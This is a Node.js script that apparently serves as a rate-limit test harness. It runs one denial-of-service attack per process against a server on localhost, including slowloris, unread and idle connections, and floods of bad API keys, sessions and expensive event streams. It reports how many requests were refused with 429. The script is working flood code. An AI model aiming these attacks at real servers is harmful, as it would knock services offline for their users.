// One attack from one address, in a process of its own: node attacker.mjs KIND PORT AMOUNT SECONDS [COOKIE]. It stops by itself.
import { connect } from 'node:net';

const [kind, port, amount, seconds, cookie = ''] = process.argv.slice(2);
const sockets = new Set();
let sent = 0;
let refused = 0;

function open(bytes, { reads = true } = {}) {
  const socket = connect(Number(port), '127.0.0.1', () => socket.write(bytes));
  sockets.add(socket);
  socket.on('error', () => {}).on('close', () => sockets.delete(socket));
  if (reads)
    socket.on('data', (data) => (refused += data.toString('latin1').split('HTTP/1.1 429').length - 1));
  else socket.pause();
  return socket;
}
const head = (method, path, more = '') => `${method} ${path} HTTP/1.1\r\nHost: localhost\r\n${more}\r\n`;

/** So many a second, spread over fifty connections that are kept. */
function rate(perSecond, make) {
  const pool = [];
  let owed = 0;
  setInterval(() => {
    owed += perSecond / 100;
    for (; owed >= 1; owed -= 1) {
      const at = sent % 50;
      if (pool[at] === undefined || pool[at].destroyed) pool[at] = open('');
      // What is not taken is not sent: the attacker has bounds too.
      if (pool[at].writableLength < 65_536) pool[at].write(make(sent));
      sent += 1;
    }
  }, 10);
}

/** So many a second, each on a connection of its own that is given up soon. */
function streams(path, openMs) {
  let owed = 0;
  setInterval(() => {
    for (owed += amount / 100; owed >= 1; owed -= 1) {
      const socket = open(head('GET', path));
      sent += 1;
      setTimeout(() => socket.destroy(), openMs);
    }
  }, 10);
}

const body = JSON.stringify({ history_ids: JSON.parse(process.env.HISTORY_IDS ?? '[]') });
const json = `Cookie: ${cookie}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n`;
const ATTACKS = {
  slowloris() {
    for (let i = 0; i < amount; i += 1) open('GET /api/events/stream HTTP/1.1\r\nHost: localhost\r\n');
    setInterval(() => {
      for (const socket of sockets) socket.write('X-a: b\r\n');
    }, 3_000);
  },
  unread() {
    for (let i = 0; i < amount; i += 1) open(head('GET', '/api/events/stream'), { reads: false });
  },
  /** Ask once, then wait for nothing. */
  idle() {
    for (let i = 0; i < amount; i += 1) open(head('GET', '/healthz'));
  },
  /** Go on sending on a stream that is open, as much as it takes. */
  talkers() {
    const more = Buffer.alloc(4_096, head('GET', '/api/whoami'));
    setInterval(() => {
      while (sockets.size < amount / 10) open(head('GET', '/api/events/stream'));
      for (const socket of sockets) if (socket.writableLength < 65_536) sent += Number(socket.write(more));
    }, 10);
  },
  wrongKeys: () => rate(Number(amount), (i) => head('GET', '/api/whoami', `x-api-key: no-such-key-${i}\r\n`)),
  wrongStreams: () => rate(Number(amount), (i) => head('GET', `/api/events/stream?key=no-such-key-${i}`)),
  streams: () => streams('/api/events/stream', 1_000),
  /** What is dear to open: a user's, with an old cursor and histories of others. */
  dearStreams() {
    const watched = JSON.parse(process.env.HISTORY_IDS).map((id) => `history_id=${id}`);
    streams(`/api/events/stream?key=demo-bob&last_event_id=2026-01-01T00:00:00&${watched.join('&')}`, 100);
  },
  sessions: () =>
    rate(Number(amount), (i) =>
      head('POST', '/api/sessions', `Cookie: galaxysession=${i.toString(16)}\r\nContent-Length: 0\r\n`),
    ),
  subscriptions: () =>
    rate(Number(amount), () => head('DELETE', '/api/events/history-subscriptions', json) + body),
};
ATTACKS[kind]();
function end() {
  process.stdout.write(JSON.stringify({ open: sockets.size, sent, refused }));
  process.exit(0);
}
setTimeout(end, seconds * 1_000);
process.on('SIGTERM', end);
